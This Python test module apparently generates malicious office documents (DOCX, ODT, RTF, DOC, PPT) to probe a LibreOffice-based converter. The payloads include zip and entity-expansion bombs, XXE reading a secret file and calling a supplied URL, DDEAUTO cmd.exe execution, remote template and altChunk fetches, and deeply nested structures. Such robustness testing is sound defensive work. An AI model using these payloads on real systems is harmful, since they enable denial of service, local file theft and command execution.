"""More office documents that mean harm, each of which takes LibreOffice some seconds."""
from office import archive, compound, docx, field, laughs, open_document, paragraph


def files(url, secret):
    spaces = b" " * (64 << 20)
    avis = paragraph("Avis")
    yield "parts.docx", docx(avis, more=[(f"word/media/{n}.bin", spaces) for n in range(4)])
    yield "flat.odt", open_document("text", "<text:p>Avis</text:p>", [("Pictures/a.png", spaces)])
    yield "document.docx", docx(f"<w:p><w:r><w:t>{' ' * (64 << 20)}</w:t></w:r></w:p>")
    inner = archive([("a.bin", spaces)])
    yield "inside.docx", docx(avis, [("package", "embeddings/a.zip", "Internal")], [("word/embeddings/a.zip", inner)])
    yield "laughs.odt", open_document("text", "<text:p>Avis &e11;</text:p>", before=laughs("office:document-content"))
    entity = f"<!DOCTYPE w:document [<!ENTITY x SYSTEM 'file://{secret}'><!ENTITY y SYSTEM '{url}/entity'>]>"
    yield "entity.odt", open_document("text", "<text:p>Avis &x; &y;</text:p>", before=entity.replace("w:document", "office:document-content"))
    yield "fields.docx", docx(avis + field(f'INCLUDETEXT "{secret}"') + field(f'INCLUDEPICTURE "{url}/field.png"')
                              + field(f'DDEAUTO c:\\\\windows\\\\cmd.exe "/k {secret}"') + field(f'LINK Word.Document "{url}/link"'))
    template = ('<w:attachedTemplate r:id="r0"/>', [("attachedTemplate", f"{url}/template.dotm", "External")])
    yield "template.docx", docx(avis, settings=template)
    yield "chunk.docx", docx(avis + '<w:altChunk r:id="r0"/>', [("aFChunk", f"{url}/chunk.html", "External")])
    yield "nested.docx", docx("<w:sdt><w:sdtContent>" * 100_000 + avis + "</w:sdtContent></w:sdt>" * 100_000)
    yield "tables.docx", docx("<w:tbl><w:tr><w:tc>" * 100 + avis + "</w:tc></w:tr></w:tbl>" * 100)
    yield "groups.rtf", b"{\\rtf1 Avis" + b"{" * 100_000 + b"}" * 100_000 + b"}"
    yield "object.rtf", b"{\\rtf1 Avis {\\object\\objautlink\\objupdate{\\*\\objclass Word.Document}{\\*\\objdata 0105000002000000}}" \
        b"{\\field{\\*\\fldinst INCLUDEPICTURE \"%s/rtf.png\" \\\\d}{\\fldrslt }}{\\*\\template %s/t.dotm}}" % (url.encode(), url.encode())
    for stream, extension in [("WordDocument", "doc"), ("PowerPoint Document", "ppt")]:
        yield f"circle.{extension}", compound(stream)
